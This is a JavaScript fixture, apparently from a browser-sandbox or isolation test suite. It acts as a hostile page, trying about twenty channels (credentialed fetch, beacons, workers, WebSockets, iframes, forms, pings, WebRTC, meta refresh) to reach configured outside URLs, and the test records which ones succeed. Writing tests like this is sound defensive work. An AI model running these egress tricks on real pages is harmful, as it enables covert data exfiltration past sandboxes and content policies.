// What a hostile page tries, in the browser.
(() => {
  window.tried = 0;
  const put = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const attempt = (run) => {
    window.tried += 1;
    try {
      void Promise.resolve(run()).catch(() => undefined);
    } catch {
      // It is for the test to see what came of it.
    }
  };
  for (const base of window.reachFor) {
    const at = (way) => `${base}/${way}`;
    attempt(() => fetch(at('fetch'), { mode: 'no-cors', credentials: 'include' }));
    attempt(() => (new Image().src = at('image')));
    attempt(() => navigator.sendBeacon(at('beacon'), 'what it knows'));
    attempt(() => {
      const source = `fetch(${JSON.stringify(at('worker'))}, { mode: 'no-cors' })`;
      return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    });
    attempt(() => new WebSocket(at('websocket').replace(/^http/, 'ws')));
    attempt(() => new EventSource(at('eventsource')));
    attempt(() => window.open(at('popup'), '_blank'));
    attempt(() => put('iframe', { src: at('iframe') }));
    attempt(() => {
      // Beside the page: from another origin it would otherwise leave for where the link leads.
      put('iframe', { name: 'download-aside' });
      put('a', { href: at('download'), download: 'what.bin', target: 'download-aside' }).click();
    });
    attempt(() => put('script', { src: at('script') }));
    attempt(() => put('link', { rel: 'stylesheet', href: at('stylesheet') }));
    attempt(() => {
      put('iframe', { name: 'aside' });
      put('form', { action: at('form'), method: 'post', target: 'aside' }).submit();
    });
    attempt(() => put('link', { rel: 'prefetch', href: at('prefetch') }));
    attempt(() => put('link', { rel: 'preconnect', href: at('preconnect') }));
    attempt(() => put('video', { src: at('video'), autoplay: '' }));
    attempt(() => put('a', { href: '#', ping: at('ping') }).click());
    attempt(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(base).host}` }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    });
    attempt(() => {
      put('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${at('refresh')}">` });
    });
  }
})();
